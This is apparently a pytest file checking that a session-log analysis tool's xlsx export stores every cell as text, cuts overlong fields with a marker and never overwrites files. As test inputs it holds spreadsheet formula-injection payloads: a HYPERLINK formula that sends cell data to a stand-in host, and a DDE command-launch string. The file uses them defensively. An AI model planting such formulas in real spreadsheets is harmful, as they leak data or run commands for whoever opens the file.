"""--format xlsx: every cell is text (never a formula), long fields are cut with a marker, outputs never replaced."""

from __future__ import annotations

import json
import re
import zipfile

from tests.conftest import write_tree

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SESSION = ".pi/agent/sessions/--home-alice-src--/2026-07-02T09-14-05-120Z_6b1f9e0c.jsonl"


def home_with(tmp_path, *texts: str):
    lines = [{"type": "session", "version": 3, "id": "s1", "timestamp": "2026-07-02T09:14:05.120Z",
              "cwd": "/home/alice/src"}]
    lines += [{"type": "message", "id": f"e{n}", "parentId": f"e{n - 1}" if n else None,
               "timestamp": "2026-07-02T09:15:00.000Z", "message": {"role": "user", "content": text}}
              for n, text in enumerate(texts)]
    return write_tree(tmp_path / "home", {SESSION: "".join(json.dumps(line) + "\n" for line in lines)})


def workbook(cli, tmp_path, *texts: str) -> str:
    bundle = tmp_path / "b.tar.zst"
    assert cli("collect", "--home", home_with(tmp_path, *texts), "-o", bundle, "--quiet").exit_code == 0
    out = tmp_path / "t.xlsx"
    result = cli("analyze", bundle, "-o", out, "--format", "xlsx", "--quiet")
    assert result.exit_code == 0, result.output + result.stderr
    with zipfile.ZipFile(out) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_a_formula_typed_as_a_prompt_is_a_text_cell(cli, tmp_path):
    sheet = workbook(cli, tmp_path, FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)")
    assert "<f>" not in sheet and "<f " not in sheet, "no cell may be a formula"
    assert '<t>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</t>' in sheet
    assert "+cmd|' /C calc'!A0" in sheet


def test_a_field_over_the_cell_limit_is_cut_with_a_marker(cli, tmp_path):
    sheet = workbook(cli, tmp_path, "x" * 40_000)
    cells = re.findall(r"<t[^>]*>(x+…[^<]*)</t>", sheet)
    assert len(cells) == 1 and len(cells[0]) == 32_767
    assert cells[0].endswith("… [cut: 40000 characters; the whole text is in the CSV or JSONL timeline]")


def test_xlsx_needs_a_file_and_never_replaces_one(cli, tmp_path):
    bundle = tmp_path / "b.tar.zst"
    assert cli("collect", "--home", home_with(tmp_path, "hi"), "-o", bundle, "--quiet").exit_code == 0
    assert cli("analyze", bundle, "-o", "-", "--format", "xlsx").exit_code == 2
    existing = tmp_path / "t.xlsx"
    existing.write_bytes(b"keep")
    assert cli("analyze", bundle, "-o", existing, "--format", "xlsx").exit_code == 2
    assert existing.read_bytes() == b"keep"
